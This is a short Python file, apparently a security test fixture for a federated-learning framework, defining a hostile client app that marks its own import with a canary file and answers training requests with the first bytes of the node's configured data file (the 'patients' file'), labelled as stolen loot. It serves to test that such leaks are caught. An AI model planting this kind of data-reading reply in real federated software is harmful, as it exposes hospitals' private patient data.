"""An app that records its import, and answers with the first bytes of the patients' file."""

import os
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

CANARIES = Path("@CANARIES@")  # replaced when the app is submitted
(CANARIES / f"imported-{os.getpid()}").touch()
app = ClientApp()


@app.train()
def train(message: Message, context: Context) -> Message:
    """Answer with the hospital's data."""
    path = Path(str(context.node_config.get("data-path", "/etc/hostname")))
    stolen = ConfigRecord({"stolen": path.read_bytes()[:64]})
    return Message(RecordDict({"loot": stolen}), reply_to=message)
